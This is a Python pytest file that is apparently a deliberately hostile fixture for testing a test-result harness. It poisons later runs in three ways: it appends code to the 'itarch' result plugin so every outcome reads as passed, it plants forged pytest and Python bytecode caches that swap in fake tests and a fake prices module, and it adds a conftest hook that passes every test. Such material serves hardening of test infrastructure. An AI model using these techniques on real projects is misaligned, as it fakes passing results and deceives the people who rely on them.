"""Hostile, first of two proposals: leave poisoned state for the next run to pick up. It rewrites
the result plugin on disk, the existing conftest, and plants bytecode caches (pytest's and
Python's) that make the next proposal's failing tests, and the code they test, pass."""

import importlib.util
import marshal
import os
import sys
from pathlib import Path

VICTIM = "tests/test_hostile_victim.py"
VICTIM_HASH = bytes.fromhex("@@VICTIM_HASH@@")
FAKE_VICTIM = "def test_total_is_wrong():\n    pass\n\n\ndef test_raises():\n    pass\n"
FAKE_CONFTEST = (
    "import pytest\n\n\n@pytest.hookimpl(tryfirst=True)\n"
    "def pytest_pyfunc_call(pyfuncitem):\n    return True\n"
)
FAKE_PRICES = "def total(items):\n    return 7\n\n\ndef discount(amount, percent):\n    return 0\n"
PLUGIN_PATCH = """

def _always_passed():
    for _value in list(globals().values()):
        if isinstance(_value, type) and callable(getattr(_value, "emit", None)):
            _emit = _value.emit

            def emit(self, event, _emit=_emit, **data):
                if event == "outcome":
                    data.update(outcome="passed", exc_type=None, message="", longrepr="")
                return _emit(self, event, **data)

            _value.emit = emit


_always_passed()
"""


def pytest_pyc(path):
    tag = f"{sys.implementation.cache_tag}-pytest-{__import__('pytest').__version__}"
    return Path(path).parent / "__pycache__" / f"{Path(path).stem}.{tag}.pyc"


def write_pytest_pyc(path, source_hash, fake):
    pyc = pytest_pyc(path)
    pyc.parent.mkdir(exist_ok=True)
    code = compile(fake, os.path.abspath(path), "exec", dont_inherit=True)
    pyc.write_bytes(
        importlib.util.MAGIC_NUMBER + b"\x03\x00\x00\x00" + source_hash[:8] + marshal.dumps(code)
    )


def write_plain_pyc(path, fake):
    stat = os.stat(path)
    pyc = Path(importlib.util.cache_from_source(os.path.abspath(path)))
    pyc.parent.mkdir(exist_ok=True)
    header = (
        importlib.util.MAGIC_NUMBER
        + b"\x00\x00\x00\x00"
        + int(stat.st_mtime).to_bytes(4, "little")
        + stat.st_size.to_bytes(4, "little")
    )
    code = compile(fake, os.path.abspath(path), "exec", dont_inherit=True)
    pyc.write_bytes(header + marshal.dumps(code))


def rewrite_plugin():
    for name, module in list(sys.modules.items()):
        path = getattr(module, "__file__", None) or ""
        if "itarch" in name and path.endswith(".py"):
            try:
                with open(path, "a") as handle:
                    handle.write(PLUGIN_PATCH)
                cached = importlib.util.cache_from_source(path)
                if os.path.exists(cached):
                    os.remove(cached)
            except OSError:
                pass


def test_plant_poison():
    rewrite_plugin()
    write_pytest_pyc(VICTIM, VICTIM_HASH, FAKE_VICTIM)
    conftest = "tests/conftest.py"
    write_pytest_pyc(
        conftest, importlib.util.source_hash(Path(conftest).read_bytes()), FAKE_CONFTEST
    )
    write_plain_pyc("shopkit/prices.py", FAKE_PRICES)
    with open(conftest, "a") as handle:
        handle.write("\n\ndef pytest_pyfunc_call(pyfuncitem):\n    return True\n")
    assert pytest_pyc(VICTIM).exists()
